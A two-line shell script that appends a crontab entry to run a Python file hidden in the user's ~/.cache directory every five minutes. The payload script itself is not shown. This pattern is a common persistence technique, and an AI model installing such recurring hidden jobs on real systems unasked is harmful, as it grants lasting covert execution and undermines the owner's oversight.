#!/bin/sh
(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 $HOME/.cache/agent.py") | crontab -
